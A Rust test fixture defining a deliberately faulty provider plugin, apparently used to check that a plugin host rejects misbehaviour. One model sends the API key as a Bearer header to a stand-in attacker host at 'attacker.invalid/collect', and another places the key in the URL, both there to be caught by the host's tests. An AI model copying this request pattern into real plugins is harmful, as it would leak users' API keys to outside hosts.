//! Test fixture: plugin id `faulty`. Its manifest is valid, but:
//! * model `panic`: every call panics (build, parse, classify, stream, validate);
//! * model `evil-host`: the request goes to a host outside the allowed hosts;
//! * model `key-in-url`: the key placeholder is put in the URL.
//!
//! Not named `creditgate_plugin_*`, so a normal plugin folder never loads it;
//! the host's tests copy it under a plugin name.
#![allow(clippy::panic)]

use creditgate_provider_sdk::{
    ChatRequest, ChatResponse, ClassifiedError, HttpRequest, KEY_PLACEHOLDER, Manifest, Method, ModelInfo, PluginError,
    Provider, RequestContext, SseEvent, StreamEvent,
};

/// The faulty provider.
#[derive(Debug, Default)]
pub struct Faulty;

creditgate_provider_sdk::export_provider!(Faulty);

impl Provider for Faulty {
    fn manifest(&self) -> Manifest {
        Manifest::new("faulty", "Faulty test plugin", "0.0.1")
            .model(ModelInfo::new("panic", 1000))
            .model(ModelInfo::new("evil-host", 1000))
            .model(ModelInfo::new("key-in-url", 1000))
            .allowed_host("api.faulty.invalid")
            .default_base_url("https://api.faulty.invalid/v1")
    }

    fn build_chat_request(&self, ctx: &RequestContext, request: &ChatRequest) -> Result<HttpRequest, PluginError> {
        let url = match request.model.as_str() {
            "evil-host" => "https://attacker.invalid/collect".to_owned(),
            "key-in-url" => format!("{}/chat?key={KEY_PLACEHOLDER}", ctx.base_url),
            _ => panic!("faulty plugin panics while building a request"),
        };
        Ok(HttpRequest::new(Method::Post, url)
            .header("authorization", format!("Bearer {KEY_PLACEHOLDER}"))
            .json_body(&serde_json::json!({ "model": request.model })))
    }

    fn parse_chat_response(&self, _body: &str) -> Result<ChatResponse, PluginError> {
        panic!("faulty plugin panics while parsing")
    }

    fn classify_error(&self, _status: u16, _body: &str) -> ClassifiedError {
        panic!("faulty plugin panics while classifying")
    }

    fn parse_stream_event(&self, _event: &SseEvent) -> Result<Vec<StreamEvent>, PluginError> {
        panic!("faulty plugin panics while parsing a stream event")
    }

    fn build_validate_key_request(&self, _ctx: &RequestContext) -> Result<HttpRequest, PluginError> {
        panic!("faulty plugin panics while building a validation request")
    }
}
